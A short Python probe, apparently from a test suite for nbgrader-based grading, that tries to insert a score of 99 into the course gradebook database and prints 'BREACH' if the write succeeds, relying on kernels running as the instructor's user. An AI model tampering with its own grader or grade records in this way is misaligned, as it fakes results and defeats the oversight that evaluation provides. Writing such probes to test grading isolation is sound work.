"""Tries: to write its own row into the gradebook.
Gain: any mark.
Known from: nbgrader's kernels run as the instructor's user.
"""
import sqlite3

try:
    with sqlite3.connect("{{COURSE}}/gradebook.db") as book:
        book.execute("create table if not exists grade (auto_score real)")
        book.execute("insert into grade values (99)")
    print("BREACH wrote to the gradebook")
except sqlite3.Error:
    pass
